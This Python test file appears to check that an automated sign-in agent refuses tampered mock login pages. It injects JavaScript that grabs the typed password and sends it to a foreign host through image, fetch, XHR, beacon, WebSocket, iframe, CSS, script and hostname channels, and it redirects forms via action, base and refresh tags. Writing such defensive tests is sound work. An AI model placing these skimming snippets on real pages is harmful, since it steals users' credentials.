"""A sign-in page that hands what is typed there to a foreign host itself, without any redirect: nothing of it arrives."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from agent.report.model import Report
from fixtures.server import MockSites
from tests.harness.program import run_job, run_on_platform, site_settings
from tests.robustness.attacks.redirects.hosts import ForeignHost, foreign_host

ON_SUBMIT = """<script>addEventListener("submit", () => {{
  const typed = document.querySelector("[type=password]").value;
  {ways}
}}, true)</script></body>"""
SENT = {
    "picture": "new Image().src = `{foreign}?p=${{typed}}`",
    "fetch": "fetch(`{foreign}`, {{method: 'POST', body: typed, mode: 'no-cors', keepalive: true}}).catch(() => 0)",
    "request": "const x = new XMLHttpRequest(); x.open('POST', `{foreign}`); x.send(typed)",
    "beacon": "navigator.sendBeacon(`{foreign}`, typed)",
    "socket": "new WebSocket(`{socket}?p=${{typed}}`)",
    "frame": "const f = document.createElement('iframe'); f.src = `{foreign}?p=${{typed}}`; document.body.append(f)",
    "style": "document.body.style.background = `url({foreign}?p=${{typed}})`",
    "script": "const s = document.createElement('script'); s.src = `{foreign}?p=${{typed}}`; document.body.append(s)",
    "host name": "new Image().src = `{scheme}://${{typed.replace(/[^a-z0-9]/gi, '')}}.localhost:{port}/`",
}
"""What the page does with the password in the moment in which it is sent to the site."""
WINDOW = "open(`{foreign}?p=${{typed}}`)"
"""The same with a window, done last: it stops the run, and so tells that all before it was tried."""
PLACED = {
    "form": (r'(<form id="(?:fm1|loginForm)"[^>]*action=")[^"]*', r"\g<1>{foreign}"),
    "base": (r"<head>", r'<head><base href="{foreign}">'),
    "refresh": (r"<head>", r'<head><meta http-equiv="refresh" content="0; url={foreign}">'),
}
"""Where the page says that the sign-in is: a pattern of the page, and what stands there instead."""
FORM = r'<form id="(?:fm1|loginForm)".*?</form>'


@pytest.fixture
def foreign() -> Iterator[ForeignHost]:
    with foreign_host() as host:
        yield host


def _run(browser: Browser, folder: Path, site: str, pattern: str, replacement: str) -> Report:
    """Run with another text in place of the pattern on one site's sign-in page, which must have had it."""
    replaced = []

    def mutate(where: str, page: str, html: str) -> str:
        if where != site or 'type="password"' not in html:
            return html
        changed, times = re.subn(pattern, replacement, html, flags=re.DOTALL)
        replaced.append(times)
        return changed

    with MockSites(mutate=mutate) as sites:
        report = (
            run_job(browser, site_settings(sites), folder, patience=6)
            if site == "chsi"
            else run_on_platform(browser, sites, folder, patience=6)
        )
    assert replaced
    assert all(replaced)
    return report


def _is_refused(report: Report, foreign: ForeignHost) -> None:
    assert foreign.heard == []
    assert report.trouble is not None
    assert report.exit_status == 22, report.trouble
    assert foreign.netloc in report.trouble.message


at_each_site = pytest.mark.parametrize(
    ("site", "scheme"),
    [
        ("chsi", "https"),
        ("chaoxing", "http"),
        pytest.param("chsi", "http", marks=pytest.mark.exhaustive),
        pytest.param("chaoxing", "https", marks=pytest.mark.exhaustive),
    ],
)
"""The suite tries each site and each scheme; which of both goes with which changes nothing."""


@at_each_site
def test_what_is_typed_is_not_sent_along(
    browser: Browser, foreign: ForeignHost, tmp_path: Path, site: str, scheme: str
) -> None:
    address = f"{scheme}://{foreign.netloc}/"
    ways = "; ".join((*SENT.values(), WINDOW)).format(
        foreign=address, socket=address.replace("http", "ws", 1), scheme=scheme, port=foreign.port
    )
    report = _run(
        browser, tmp_path / "case", site, "</body>", ON_SUBMIT.format(ways=ways).replace("\\", "\\\\")
    )
    _is_refused(report, foreign)


@at_each_site
@pytest.mark.parametrize("way", PLACED)
def test_a_sign_in_elsewhere_is_refused(
    browser: Browser, foreign: ForeignHost, tmp_path: Path, site: str, way: str, scheme: str
) -> None:
    pattern, replacement = PLACED[way]
    address = f"{scheme}://{foreign.netloc}/"
    report = _run(browser, tmp_path / "case", site, pattern, replacement.format(foreign=address))
    _is_refused(report, foreign)


@at_each_site
def test_a_sign_in_in_a_foreign_frame_is_not_opened(
    browser: Browser, foreign: ForeignHost, tmp_path: Path, site: str, scheme: str
) -> None:
    frame = f'<iframe src="{scheme}://{foreign.netloc}/" width="600" height="400"></iframe>'
    report = _run(browser, tmp_path / "case", site, FORM, frame)
    assert foreign.heard == []
    assert report.exit_status == 20, report.trouble
    assert report.trouble
    assert foreign.netloc in report.trouble.message
